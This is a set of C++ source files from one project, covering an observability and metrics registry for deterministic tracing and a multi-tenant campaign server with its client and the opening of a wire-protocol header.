      stack.push_back(name->str);
    } else if (phase == 'E') {
      if (stack.empty()) {
        return where + ": span end \"" + name->str + "\" with no open span";
      }
      if (stack.back() != name->str) {
        return where + ": span end \"" + name->str +
               "\" does not match open span \"" + stack.back() + "\"";
      }
      stack.pop_back();
    } else if (phase == 'C') {
      const JsonValue* args = find_member(ev, "args");
      if (args == nullptr || args->type != JsonValue::Type::kObject ||
          args->object.empty()) {
        return where + ": counter event lacks non-empty \"args\"";
      }
    }
  }
  for (const auto& [key, stack] : open) {
    if (!stack.empty()) {
      return "unclosed span \"" + stack.back() + "\" on tid " +
             format_number(key.second);
    }
  }
  return {};
}

}  // namespace crs::obs
