// Observability core: compile-time enable switch, runtime tracing toggle,
// and the logical-lane mechanism that makes traces deterministic under the
// thread pool.
//
// Design contract (see docs/OBSERVABILITY.md):
//  * `CRS_OBS_ENABLED` (CMake option CRSPECTRE_OBS, default ON) selects
//    between the real instrumentation types and no-op stand-ins. With the
//    option OFF every instrumentation call compiles to nothing.
//  * Trace emission is additionally gated at runtime by `tracing_enabled()`
//    (default off) so the default build pays only a relaxed atomic load on
//    the rare paths that emit, and nothing at all on hot paths.
//  * A "lane" is a logical thread id: the work-item index inside a
//    parallel_map / for_each_index region, not the OS thread id. Two runs
//    with different CRS_THREADS values produce the same (cycle, lane)
//    sequence, which is what makes merged traces byte-identical.
#pragma once

#include <cstdint>

#ifndef CRS_OBS_ENABLED
#define CRS_OBS_ENABLED 1
#endif

namespace crs::obs {

inline constexpr bool kEnabled = CRS_OBS_ENABLED != 0;

/// Runtime switch for trace emission. Metrics counters are always live when
/// the subsystem is compiled in; traces are opt-in per process.
bool tracing_enabled();
void set_tracing_enabled(bool on);

/// Logical lane of the calling thread (0 outside any parallel region).
std::uint32_t current_lane();
void set_current_lane(std::uint32_t lane);

/// RAII lane setter. The thread pool wraps every work item in one of these
/// so events emitted by the item are tagged with the item index regardless
/// of which OS thread ran it.
class LaneScope {
 public:
  explicit LaneScope(std::uint32_t lane);
  ~LaneScope();
  LaneScope(const LaneScope&) = delete;
  LaneScope& operator=(const LaneScope&) = delete;

 private:
  std::uint32_t saved_;
};

/// Allocates a contiguous block of `count` lanes for one parallel region.
/// Blocks are handed out in the (deterministic) program order in which
/// regions are dispatched, starting at 1 — lane 0 is reserved for serial
/// main-thread emission — so a (cycle, lane) pair is produced by at most
/// one work item and the merge order cannot depend on the thread count.
std::uint32_t allocate_lane_block(std::uint32_t count);

/// Rewinds the lane allocator (tests compare traces of repeated runs in one
/// process; call together with TraceSink::clear()).
void reset_lane_allocator();

/// Lanes at or above this base are reserved for post-hoc summary emission
/// (e.g. one lane per campaign attempt). Keeping them disjoint from in-run
/// lanes guarantees a (cycle, lane) pair is produced by at most one buffer,
/// which the deterministic merge relies on.
inline constexpr std::uint32_t kSummaryLaneBase = 1u << 30;

}  // namespace crs::obs
