#include "obs/obs.hpp"

#include <atomic>

namespace crs::obs {

namespace {
std::atomic<bool> g_tracing{false};
std::atomic<std::uint32_t> g_lane_next{1};
thread_local std::uint32_t tl_lane = 0;
}  // namespace

std::uint32_t allocate_lane_block(std::uint32_t count) {
  return g_lane_next.fetch_add(count, std::memory_order_relaxed);
}

void reset_lane_allocator() {
  g_lane_next.store(1, std::memory_order_relaxed);
}

bool tracing_enabled() { return g_tracing.load(std::memory_order_relaxed); }

void set_tracing_enabled(bool on) {
  g_tracing.store(on, std::memory_order_relaxed);
}

std::uint32_t current_lane() { return tl_lane; }

void set_current_lane(std::uint32_t lane) { tl_lane = lane; }

LaneScope::LaneScope(std::uint32_t lane) : saved_(tl_lane) { tl_lane = lane; }

LaneScope::~LaneScope() { tl_lane = saved_; }

}  // namespace crs::obs
