// MetricsRegistry: process-wide counters, gauges and fixed-bucket
// histograms.
//
// Determinism contract: counters and histogram buckets are unsigned-integer
// accumulators updated with commutative atomic adds, so totals are
// independent of thread interleaving and CRS_THREADS. Gauges (last-value
// semantics) must only be written from serial contexts. Nothing in the
// registry ever records wall-clock time — wall timings flow exclusively
// through the --bench-json plumbing so metric CSVs stay byte-reproducible.
//
// Lookup by name takes a mutex; hot paths (per cache access, per
// instruction) keep plain struct counters locally and publish once per run
// via the *_metrics() helpers instead of touching the registry.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <mutex>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "obs/obs.hpp"

namespace crs::obs {

class Counter {
 public:
  void add(std::uint64_t n = 1) {
    if constexpr (kEnabled) value_.fetch_add(n, std::memory_order_relaxed);
  }
  std::uint64_t value() const {
    return value_.load(std::memory_order_relaxed);
  }
  void reset() { value_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<std::uint64_t> value_{0};
};

class Gauge {
 public:
  void set(double v) {
    if constexpr (kEnabled) value_.store(v, std::memory_order_relaxed);
  }
  double value() const { return value_.load(std::memory_order_relaxed); }
  void reset() { value_.store(0.0, std::memory_order_relaxed); }

 private:
  std::atomic<double> value_{0.0};
};

/// Histogram over fixed, ascending upper bounds plus an implicit +inf
/// overflow bucket. Only integer bucket counts are stored (no value sums:
/// floating-point accumulation order would break thread-count invariance).
class Histogram {
 public:
  explicit Histogram(std::span<const double> upper_bounds);

  void observe(double v) {
    if constexpr (kEnabled) {
      buckets_[bucket_index(v)].fetch_add(1, std::memory_order_relaxed);
    } else {
      (void)v;
    }
  }

  /// Index of the bucket `v` falls into: the first bound with v <= bound,
  /// or bounds().size() for the overflow bucket.
  std::size_t bucket_index(double v) const;

  const std::vector<double>& bounds() const { return bounds_; }
  std::size_t bucket_total() const { return bounds_.size() + 1; }
  std::uint64_t bucket_count(std::size_t i) const;
  std::uint64_t total_count() const;
  void reset();

 private:
  std::vector<double> bounds_;
  std::unique_ptr<std::atomic<std::uint64_t>[]> buckets_;
};

/// One row of the rendered registry (shared by csv() and crs_top).
struct MetricRow {
  std::string name;
  std::string kind;   // counter | gauge | histogram
  std::string field;  // value | le_<bound> | le_inf | count
  std::string value;
};

class MetricsRegistry {
 public:
  static MetricsRegistry& instance();

  /// Find-or-create. References stay valid until clear(); reset_values()
  /// preserves identity, so library code may cache them per run but tests
  /// should prefer reset_values() over clear() between cases.
  Counter& counter(std::string_view name);
  Gauge& gauge(std::string_view name);
  /// Bounds are fixed at first creation; later calls with the same name
  /// must pass identical bounds (enforced).
  Histogram& histogram(std::string_view name,
                       std::span<const double> upper_bounds);

  /// Rows sorted by (name, field registration order) — deterministic.
  std::vector<MetricRow> rows() const;

  /// CSV: `metric,kind,field,value` header plus one line per row.
  std::string csv() const;

  std::size_t size() const;

  /// Zeroes every value but keeps the metric set (and outstanding
  /// references) intact.
  void reset_values();

  /// Drops all metrics. Invalidates references; only safe at quiesced
  /// points with no cached references in flight.
  void clear();

 private:
  MetricsRegistry() = default;

  mutable std::mutex mutex_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
};

/// Deterministic number rendering shared with the trace exporters.
std::string format_metric_number(double v);

}  // namespace crs::obs
