#include "obs/metrics.hpp"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <sstream>

#include "support/error.hpp"

namespace crs::obs {

std::string format_metric_number(double v) {
  if (std::isfinite(v) && v == std::floor(v) &&
      std::fabs(v) < 9.007199254740992e15) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%lld", static_cast<long long>(v));
    return buf;
  }
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.17g", v);
  return buf;
}

Histogram::Histogram(std::span<const double> upper_bounds)
    : bounds_(upper_bounds.begin(), upper_bounds.end()) {
  for (std::size_t i = 1; i < bounds_.size(); ++i) {
    CRS_ENSURE(bounds_[i - 1] < bounds_[i],
               "histogram bounds must be strictly ascending");
  }
  buckets_ = std::make_unique<std::atomic<std::uint64_t>[]>(bucket_total());
  for (std::size_t i = 0; i < bucket_total(); ++i) buckets_[i] = 0;
}

std::size_t Histogram::bucket_index(double v) const {
  for (std::size_t i = 0; i < bounds_.size(); ++i) {
    if (v <= bounds_[i]) return i;
  }
  return bounds_.size();
}

std::uint64_t Histogram::bucket_count(std::size_t i) const {
  CRS_ENSURE(i < bucket_total(), "histogram bucket index out of range");
  return buckets_[i].load(std::memory_order_relaxed);
}

std::uint64_t Histogram::total_count() const {
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < bucket_total(); ++i) {
    total += buckets_[i].load(std::memory_order_relaxed);
  }
  return total;
}

void Histogram::reset() {
  for (std::size_t i = 0; i < bucket_total(); ++i) {
    buckets_[i].store(0, std::memory_order_relaxed);
  }
}

MetricsRegistry& MetricsRegistry::instance() {
  static MetricsRegistry registry;
  return registry;
}

Counter& MetricsRegistry::counter(std::string_view name) {
  std::lock_guard<std::mutex> lock(mutex_);
  CRS_ENSURE(gauges_.find(name) == gauges_.end() &&
                 histograms_.find(name) == histograms_.end(),
             "metric '" + std::string(name) + "' already has another kind");
  auto it = counters_.find(name);
  if (it == counters_.end()) {
    it = counters_.emplace(std::string(name), std::make_unique<Counter>())
             .first;
  }
  return *it->second;
}

Gauge& MetricsRegistry::gauge(std::string_view name) {
  std::lock_guard<std::mutex> lock(mutex_);
  CRS_ENSURE(counters_.find(name) == counters_.end() &&
                 histograms_.find(name) == histograms_.end(),
             "metric '" + std::string(name) + "' already has another kind");
  auto it = gauges_.find(name);
  if (it == gauges_.end()) {
    it = gauges_.emplace(std::string(name), std::make_unique<Gauge>()).first;
  }
  return *it->second;
}

Histogram& MetricsRegistry::histogram(std::string_view name,
                                      std::span<const double> upper_bounds) {
  std::lock_guard<std::mutex> lock(mutex_);
  CRS_ENSURE(counters_.find(name) == counters_.end() &&
                 gauges_.find(name) == gauges_.end(),
             "metric '" + std::string(name) + "' already has another kind");
  auto it = histograms_.find(name);
  if (it == histograms_.end()) {
    it = histograms_
             .emplace(std::string(name),
                      std::make_unique<Histogram>(upper_bounds))
             .first;
  } else {
    const auto& existing = it->second->bounds();
    CRS_ENSURE(existing.size() == upper_bounds.size() &&
                   std::equal(existing.begin(), existing.end(),
                              upper_bounds.begin()),
               "histogram '" + std::string(name) +
                   "' re-registered with different bounds");
  }
  return *it->second;
}

std::vector<MetricRow> MetricsRegistry::rows() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::vector<MetricRow> out;
  // The three maps are each name-sorted; a three-way merge keeps the
  // combined listing sorted without materialising an intermediate index.
  auto ci = counters_.begin();
  auto gi = gauges_.begin();
  auto hi = histograms_.begin();
  const auto next_name = [&]() -> const std::string* {
    const std::string* best = nullptr;
    if (ci != counters_.end()) best = &ci->first;
    if (gi != gauges_.end() && (best == nullptr || gi->first < *best)) {
      best = &gi->first;
    }
    if (hi != histograms_.end() && (best == nullptr || hi->first < *best)) {
      best = &hi->first;
    }
    return best;
  };
  for (const std::string* name = next_name(); name != nullptr;
       name = next_name()) {
    if (ci != counters_.end() && ci->first == *name) {
      out.push_back({*name, "counter", "value",
                     std::to_string(ci->second->value())});
      ++ci;
    } else if (gi != gauges_.end() && gi->first == *name) {
      out.push_back({*name, "gauge", "value",
                     format_metric_number(gi->second->value())});
      ++gi;
    } else {
      const Histogram& h = *hi->second;
      for (std::size_t b = 0; b < h.bounds().size(); ++b) {
        out.push_back({*name, "histogram",
                       "le_" + format_metric_number(h.bounds()[b]),
                       std::to_string(h.bucket_count(b))});
      }
      out.push_back({*name, "histogram", "le_inf",
                     std::to_string(h.bucket_count(h.bounds().size()))});
      out.push_back(
          {*name, "histogram", "count", std::to_string(h.total_count())});
      ++hi;
    }
  }
  return out;
}

std::string MetricsRegistry::csv() const {
  std::ostringstream out;
  out << "metric,kind,field,value\n";
  for (const auto& row : rows()) {
    out << row.name << ',' << row.kind << ',' << row.field << ',' << row.value
        << '\n';
  }
  return out.str();
}

std::size_t MetricsRegistry::size() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return counters_.size() + gauges_.size() + histograms_.size();
}

void MetricsRegistry::reset_values() {
  std::lock_guard<std::mutex> lock(mutex_);
  for (auto& [name, c] : counters_) c->reset();
  for (auto& [name, g] : gauges_) g->reset();
  for (auto& [name, h] : histograms_) h->reset();
}

void MetricsRegistry::clear() {
  std::lock_guard<std::mutex> lock(mutex_);
  counters_.clear();
  gauges_.clear();
  histograms_.clear();
}

}  // namespace crs::obs
