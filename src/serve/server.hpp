// The campaign service: a long-lived, multi-tenant scenario scheduler.
//
// Architecture (DESIGN.md §12):
//
//   listener thread ── accepts connections, one reader thread each
//   reader threads  ── decode frames, admit jobs into shard queues
//   N worker shards ── each a thread owning its warm state: the per-thread
//                      ScenarioSession cache (capacity raised via
//                      set_session_cache_capacity) and machine pool, so a
//                      shard that has seen a config before serves the next
//                      job of that config from a restored snapshot.
//
// Admission is explicit backpressure: every shard queue is bounded, and a
// submit that finds its queue full is REJECTED (reason=queue_full) instead
// of buffering unboundedly — the client decides whether to retry.
//
// Scheduling is cache-affine by default: a job is routed to shard
// `job_affinity_key(spec) % shards`, so jobs simulating the same machine
// configuration land where the snapshots are already warm. `affinity=false`
// switches to round-robin (the load driver's control arm).
//
// Determinism: a job's result bytes depend only on its spec — never on the
// shard that ran it, the queue order, CRS_THREADS, or whether the session
// cache was warm — so the served result is byte-identical to the batch CLI
// run of the same spec (tests/test_serve.cpp holds the proof).
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "core/job.hpp"
#include "serve/protocol.hpp"
#include "support/socket.hpp"

namespace crs::serve {

struct ServeConfig {
  /// Worker shards (each owns a session cache + machine pool).
  int shards = 2;
  /// Bounded per-shard queue; a full queue rejects (backpressure).
  std::size_t queue_capacity = 64;
  /// true = route by job_affinity_key (cache-affine); false = round-robin.
  bool affinity = true;
  /// Non-empty = listen on this Unix-domain socket path.
  std::string unix_path;
  /// Used when unix_path is empty: loopback TCP port (0 = ephemeral).
  std::uint16_t tcp_port = 0;
  /// Per-shard ScenarioSession cache capacity (see
  /// core::set_session_cache_capacity); sized to the distinct configs a
  /// shard is expected to keep warm.
  std::size_t session_cache_capacity = 8;
};

/// Admission/completion tallies. Invariants once quiesced:
///   received == accepted + rejected
///   accepted == completed + cancelled
/// The same counts are mirrored into obs::MetricsRegistry under serve.*.
struct ServeStats {
  std::uint64_t received = 0;
  std::uint64_t accepted = 0;
  std::uint64_t rejected = 0;
  std::uint64_t completed = 0;
  std::uint64_t cancelled = 0;
};

class Server {
 public:
  explicit Server(const ServeConfig& config);
  ~Server();

  /// Binds the endpoint and launches listener + shard workers.
  void start();

  /// Bound TCP port (valid after start() when listening on TCP).
  std::uint16_t port() const { return bound_port_; }

  /// Stops accepting connections, optionally drains queued + in-flight
  /// jobs (every accepted job still gets its RESULT frame), then joins all
  /// threads. Idempotent. With drain=false, queued jobs are dropped and
  /// counted as cancelled so the stats invariants still hold.
  void shutdown(bool drain = true);

  /// True once a client has sent a SHUTDOWN frame; the owning driver polls
  /// this and calls shutdown().
  bool shutdown_requested() const {
    return shutdown_requested_.load(std::memory_order_relaxed);
  }

  ServeStats stats() const;

  /// Test hooks: freeze/unfreeze the shard workers between jobs, so tests
  /// can fill a queue deterministically and observe queue_full rejections.
  void pause_workers();
  void resume_workers();

 private:
  struct PendingJob {
    core::JobSpec spec;
    std::shared_ptr<class Connection> conn;
    std::atomic<bool> cancelled{false};
  };

  struct Shard {
    std::mutex mutex;
    std::condition_variable cv;
    std::deque<std::shared_ptr<PendingJob>> queue;
    bool busy = false;  ///< worker currently running a job
    std::thread worker;
  };

  void listener_loop();
  void reader_loop(std::shared_ptr<Connection> conn);
  void worker_loop(Shard& shard);
  void handle_submit(const std::shared_ptr<Connection>& conn,
                     const std::string& payload);
  void finish_job(PendingJob& job, const core::JobOutcome& outcome);

  ServeConfig config_;
  Socket listener_;
  std::uint16_t bound_port_ = 0;
  std::thread listener_thread_;

  std::vector<std::unique_ptr<Shard>> shards_;
  std::atomic<std::uint64_t> round_robin_{0};

  std::mutex conns_mutex_;
  std::vector<std::shared_ptr<Connection>> conns_;
  std::vector<std::thread> reader_threads_;

  /// Live (queued or running) jobs, keyed by (connection, client job id)
  /// so CANCEL frames resolve to the right tenant's job.
  std::mutex jobs_mutex_;
  std::map<std::pair<const void*, std::uint64_t>, std::weak_ptr<PendingJob>>
      live_jobs_;

  std::atomic<bool> accepting_{false};
  std::atomic<bool> stop_workers_{false};
  std::atomic<bool> drain_{true};
  std::atomic<bool> paused_{false};
  std::atomic<bool> shutdown_requested_{false};
  bool started_ = false;
  bool joined_ = false;

  std::atomic<std::uint64_t> received_{0};
  std::atomic<std::uint64_t> accepted_{0};
  std::atomic<std::uint64_t> rejected_{0};
  std::atomic<std::uint64_t> completed_{0};
  std::atomic<std::uint64_t> cancelled_{0};
};

}  // namespace crs::serve
