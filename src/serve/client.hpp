// Blocking client for the campaign service.
//
// Thin by design: it owns one connection, pipelines any number of submits,
// and surfaces every server frame as a typed Event in arrival order. The
// convenience run() wrapper covers the common submit-and-wait case; the
// load driver and tests drive submit()/next_event() directly to keep many
// jobs in flight.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/job.hpp"
#include "serve/protocol.hpp"
#include "support/socket.hpp"

namespace crs::serve {

class Client {
 public:
  static Client connect_unix(const std::string& path);
  static Client connect_tcp(std::uint16_t port);

  /// One server frame, decoded. Which fields are meaningful depends on
  /// `type`: rejected -> reason/detail; progress -> progress; result ->
  /// status/payload; pong/error -> payload only (error detail text).
  struct Event {
    FrameType type = FrameType::kError;
    std::uint64_t id = 0;
    std::string reason;
    std::string detail;
    core::JobProgress progress;
    std::string status;
    std::string payload;
  };

  /// Fire-and-forget submit; pair with next_event()/await_result().
  void submit(const core::JobSpec& spec);
  void cancel(std::uint64_t id);
  void ping();
  /// Asks the server to stop accepting and drain (the driver decides when
  /// to actually exit).
  void request_shutdown();

  /// Blocks for the next server frame. Throws crs::Error on EOF or a
  /// malformed stream.
  Event next_event();

  /// Everything a finished job produced, in order.
  struct JobResult {
    bool accepted = false;
    std::string reject_reason;
    std::string reject_detail;
    std::vector<core::JobProgress> progress;
    std::string status;  ///< ok | cancelled | failed (accepted jobs only)
    std::string payload;
  };

  /// Drains events until job `id` reaches a terminal frame (REJECTED or
  /// RESULT). Events for other ids are dispatched to nowhere — use the
  /// event loop directly when pipelining.
  JobResult await_result(std::uint64_t id);

  /// submit + await_result.
  JobResult run(const core::JobSpec& spec);

 private:
  explicit Client(Socket sock) : sock_(std::move(sock)) {}

  Socket sock_;
  FrameDecoder decoder_;
};

}  // namespace crs::serve
