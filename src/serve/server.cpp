#include "serve/server.hpp"

#include <unistd.h>

#include <cstdlib>

#include "core/scenario.hpp"
#include "obs/metrics.hpp"
#include "support/error.hpp"

namespace crs::serve {

namespace {

void bump(const char* name) {
  obs::MetricsRegistry::instance().counter(name).add(1);
}

/// Best-effort extraction of the client's job id from a submit payload that
/// failed strict parsing, so the rejection can still echo it.
std::uint64_t scan_job_id(const std::string& payload) {
  std::size_t pos = 0;
  while (pos < payload.size()) {
    std::size_t nl = payload.find('\n', pos);
    if (nl == std::string::npos) nl = payload.size();
    const std::string line = payload.substr(pos, nl - pos);
    if (line.rfind("id=", 0) == 0) {
      char* end = nullptr;
      const std::uint64_t id = std::strtoull(line.c_str() + 3, &end, 10);
      if (end != line.c_str() + 3 && *end == '\0') return id;
      return 0;
    }
    pos = nl + 1;
  }
  return 0;
}

}  // namespace

/// One client connection: the socket plus a mutex serialising frame writes
/// (reader thread and every worker shard may respond concurrently). Once a
/// send fails the connection is dead — subsequent sends return false
/// instead of throwing, so workers finish jobs for vanished clients
/// without unwinding.
class Connection {
 public:
  explicit Connection(Socket sock) : sock_(std::move(sock)) {}

  bool send(FrameType type, std::string_view payload) {
    std::lock_guard<std::mutex> lock(write_mutex_);
    if (dead_) return false;
    try {
      const std::string frame = encode_frame(type, payload);
      sock_.send_all(frame.data(), frame.size());
      return true;
    } catch (const Error&) {
      dead_ = true;
      return false;
    }
  }

  Socket& socket() { return sock_; }

  void shutdown_both() { sock_.shutdown_both(); }

 private:
  Socket sock_;
  std::mutex write_mutex_;
  bool dead_ = false;
};

Server::Server(const ServeConfig& config) : config_(config) {
  CRS_ENSURE(config_.shards >= 1, "server needs at least one shard");
  CRS_ENSURE(config_.queue_capacity >= 1, "queue capacity must be >= 1");
}

Server::~Server() { shutdown(true); }

void Server::start() {
  CRS_ENSURE(!started_, "server already started");
  started_ = true;

  if (!config_.unix_path.empty()) {
    listener_ = listen_unix(config_.unix_path);
  } else {
    listener_ = listen_tcp_loopback(config_.tcp_port, bound_port_);
  }

  for (int i = 0; i < config_.shards; ++i) {
    shards_.push_back(std::make_unique<Shard>());
  }
  for (auto& shard : shards_) {
    shard->worker = std::thread([this, s = shard.get()] { worker_loop(*s); });
  }
  accepting_.store(true, std::memory_order_relaxed);
  listener_thread_ = std::thread([this] { listener_loop(); });
}

void Server::listener_loop() {
  while (accepting_.load(std::memory_order_relaxed)) {
    std::optional<Socket> sock;
    try {
      sock = accept_with_timeout(listener_, 50);
    } catch (const Error&) {
      // shutdown() shutdown(2)s the listening socket to wake us; accept
      // then fails (EINVAL) — that is the stop signal, not a fault.
      return;
    }
    if (!sock) continue;
    auto conn = std::make_shared<Connection>(std::move(*sock));
    std::lock_guard<std::mutex> lock(conns_mutex_);
    conns_.push_back(conn);
    reader_threads_.emplace_back(
        [this, conn = std::move(conn)] { reader_loop(conn); });
  }
}

void Server::reader_loop(std::shared_ptr<Connection> conn) {
  FrameDecoder decoder;
  char buf[4096];
  while (true) {
    std::size_t n = 0;
    try {
      n = conn->socket().recv_some(buf, sizeof buf);
    } catch (const Error&) {
      return;  // connection reset mid-read
    }
    if (n == 0) return;  // orderly EOF
    decoder.feed(buf, n);

    try {
      while (auto frame = decoder.next()) {
        switch (frame->type) {
          case FrameType::kSubmit:
            handle_submit(conn, frame->payload);
            break;
          case FrameType::kCancel: {
            const AcceptedPayload p = parse_accepted(frame->payload);
            std::lock_guard<std::mutex> lock(jobs_mutex_);
            const auto it = live_jobs_.find({conn.get(), p.id});
            if (it != live_jobs_.end()) {
              if (auto job = it->second.lock()) {
                job->cancelled.store(true, std::memory_order_relaxed);
              }
            }
            break;
          }
          case FrameType::kPing:
            conn->send(FrameType::kPong, frame->payload);
            break;
          case FrameType::kShutdown:
            shutdown_requested_.store(true, std::memory_order_relaxed);
            conn->send(FrameType::kPong, "");
            break;
          default:
            // Clients have no business sending server->client frames.
            conn->send(FrameType::kError,
                       "detail=unexpected " + frame_type_name(frame->type) +
                           " frame\n");
            return;
        }
      }
    } catch (const Error& e) {
      // Malformed stream: complain once, close, keep serving other tenants.
      conn->send(FrameType::kError,
                 "detail=" + std::string(e.what()) + "\n");
      conn->shutdown_both();
      return;
    }
  }
}

void Server::handle_submit(const std::shared_ptr<Connection>& conn,
                           const std::string& payload) {
  received_.fetch_add(1, std::memory_order_relaxed);
  bump("serve.received");

  const auto reject = [&](std::uint64_t id, const std::string& reason,
                          const std::string& detail) {
    rejected_.fetch_add(1, std::memory_order_relaxed);
    bump("serve.rejected");
    conn->send(FrameType::kRejected, encode_rejected({.id = id,
                                                      .reason = reason,
                                                      .detail = detail}));
  };

  core::JobSpec spec;
  try {
    spec = core::parse_job(payload);
  } catch (const Error& e) {
    reject(scan_job_id(payload), "bad_request", e.what());
    return;
  }

  if (!accepting_.load(std::memory_order_relaxed) ||
      shutdown_requested_.load(std::memory_order_relaxed)) {
    reject(spec.id, "shutting_down", "");
    return;
  }

  const std::size_t shard_index =
      config_.affinity
          ? static_cast<std::size_t>(core::job_affinity_key(spec) %
                                     static_cast<std::uint64_t>(
                                         shards_.size()))
          : static_cast<std::size_t>(
                round_robin_.fetch_add(1, std::memory_order_relaxed) %
                shards_.size());
  Shard& shard = *shards_[shard_index];

  auto job = std::make_shared<PendingJob>();
  job->spec = std::move(spec);
  job->conn = conn;

  {
    std::unique_lock<std::mutex> lock(shard.mutex);
    if (shard.queue.size() >= config_.queue_capacity) {
      lock.unlock();
      reject(job->spec.id, "queue_full", "");
      return;
    }
    shard.queue.push_back(job);
    accepted_.fetch_add(1, std::memory_order_relaxed);
    bump("serve.accepted");
    {
      std::lock_guard<std::mutex> jlock(jobs_mutex_);
      live_jobs_[{conn.get(), job->spec.id}] = job;
    }
    // ACCEPTED must hit the wire before the worker can emit the job's
    // first PROGRESS frame; the worker cannot pop until this lock drops.
    conn->send(FrameType::kAccepted, encode_accepted({.id = job->spec.id}));
  }
  shard.cv.notify_one();
}

void Server::worker_loop(Shard& shard) {
  // Each shard keeps its own warm set: raise the calling thread's session
  // cache so every config routed here by affinity stays resident.
  core::set_session_cache_capacity(config_.session_cache_capacity);

  while (true) {
    std::shared_ptr<PendingJob> job;
    {
      std::unique_lock<std::mutex> lock(shard.mutex);
      shard.cv.wait(lock, [&] {
        return stop_workers_.load(std::memory_order_relaxed) ||
               (!paused_.load(std::memory_order_relaxed) &&
                !shard.queue.empty());
      });
      if (stop_workers_.load(std::memory_order_relaxed)) {
        if (!drain_.load(std::memory_order_relaxed)) {
          // Hard stop: every queued job still gets a terminal frame.
          while (!shard.queue.empty()) {
            auto dropped = shard.queue.front();
            shard.queue.pop_front();
            core::JobOutcome outcome;
            outcome.cancelled = true;
            finish_job(*dropped, outcome);
          }
          return;
        }
        if (shard.queue.empty()) return;  // drained
      }
      job = shard.queue.front();
      shard.queue.pop_front();
      shard.busy = true;
    }

    core::JobOutcome outcome;
    if (job->cancelled.load(std::memory_order_relaxed)) {
      outcome.cancelled = true;  // cancelled while queued: never ran
      finish_job(*job, outcome);
    } else {
      const auto on_progress = [&](const core::JobProgress& p) {
        if (job->cancelled.load(std::memory_order_relaxed)) return false;
        // A vanished client cancels its job: no point simulating for a
        // closed socket.
        return job->conn->send(FrameType::kProgress,
                               encode_progress({.id = job->spec.id,
                                                .progress = p}));
      };
      try {
        outcome = core::run_job(job->spec, on_progress);
        finish_job(*job, outcome);
      } catch (const Error& e) {
        completed_.fetch_add(1, std::memory_order_relaxed);
        bump("serve.completed");
        {
          std::lock_guard<std::mutex> jlock(jobs_mutex_);
          live_jobs_.erase({job->conn.get(), job->spec.id});
        }
        job->conn->send(FrameType::kResult,
                        encode_result({.id = job->spec.id,
                                       .status = "failed",
                                       .payload = e.what()}));
      }
    }

    {
      std::lock_guard<std::mutex> lock(shard.mutex);
      shard.busy = false;
    }
    shard.cv.notify_all();
  }
}

void Server::finish_job(PendingJob& job, const core::JobOutcome& outcome) {
  {
    std::lock_guard<std::mutex> lock(jobs_mutex_);
    live_jobs_.erase({job.conn.get(), job.spec.id});
  }
  if (outcome.cancelled) {
    cancelled_.fetch_add(1, std::memory_order_relaxed);
    bump("serve.cancelled");
  } else {
    completed_.fetch_add(1, std::memory_order_relaxed);
    bump("serve.completed");
  }
  ResultPayload result;
  result.id = job.spec.id;
  result.status = outcome.cancelled ? "cancelled" : "ok";
  result.payload = outcome.payload;
  job.conn->send(FrameType::kResult, encode_result(result));
}

void Server::shutdown(bool drain) {
  if (!started_ || joined_) return;
  joined_ = true;

  // 1. Stop admitting: no new connections, submits reject shutting_down.
  accepting_.store(false, std::memory_order_relaxed);
  listener_.shutdown_both();
  if (listener_thread_.joinable()) listener_thread_.join();
  listener_.close();
  if (!config_.unix_path.empty()) ::unlink(config_.unix_path.c_str());

  // 2. Drain (or drop) the shard queues; every accepted job gets its
  //    RESULT frame before the worker exits.
  drain_.store(drain, std::memory_order_relaxed);
  paused_.store(false, std::memory_order_relaxed);
  stop_workers_.store(true, std::memory_order_relaxed);
  for (auto& shard : shards_) shard->cv.notify_all();
  for (auto& shard : shards_) {
    if (shard->worker.joinable()) shard->worker.join();
  }
  // A submit racing the shutdown edge may have been queued after its
  // worker exited; cancel it here so every accepted job still terminates.
  for (auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    while (!shard->queue.empty()) {
      auto dropped = shard->queue.front();
      shard->queue.pop_front();
      core::JobOutcome outcome;
      outcome.cancelled = true;
      finish_job(*dropped, outcome);
    }
  }

  // 3. Only now sever clients: results are already on the wire.
  std::vector<std::shared_ptr<Connection>> conns;
  std::vector<std::thread> readers;
  {
    std::lock_guard<std::mutex> lock(conns_mutex_);
    conns.swap(conns_);
    readers.swap(reader_threads_);
  }
  for (auto& conn : conns) conn->shutdown_both();
  for (auto& t : readers) {
    if (t.joinable()) t.join();
  }
}

ServeStats Server::stats() const {
  ServeStats s;
  s.received = received_.load(std::memory_order_relaxed);
  s.accepted = accepted_.load(std::memory_order_relaxed);
  s.rejected = rejected_.load(std::memory_order_relaxed);
  s.completed = completed_.load(std::memory_order_relaxed);
  s.cancelled = cancelled_.load(std::memory_order_relaxed);
  return s;
}

void Server::pause_workers() {
  paused_.store(true, std::memory_order_relaxed);
}

void Server::resume_workers() {
  paused_.store(false, std::memory_order_relaxed);
  for (auto& shard : shards_) shard->cv.notify_all();
}

}  // namespace crs::serve
