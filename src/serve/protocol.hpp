// The campaign service's wire protocol.
//
// Length-prefixed binary frames over a byte stream (Unix-domain socket or
// loopback TCP). Every frame is:
//
//   offset 0   4 bytes   magic "CRSV"
//   offset 4   1 byte    frame type (FrameType)
//   offset 5   3 bytes   reserved, must be zero
//   offset 8   4 bytes   payload length, unsigned little-endian
//   offset 12  N bytes   payload
//
// The decoder is strict: wrong magic, an unknown type, a nonzero reserved
// byte or an oversized length throws crs::Error immediately — a malformed
// peer can never desynchronise the stream into half-parsed frames. A
// truncated frame is not an error; the decoder just waits for more bytes.
//
// Payloads are `key=value` text lines (the same convention as the job
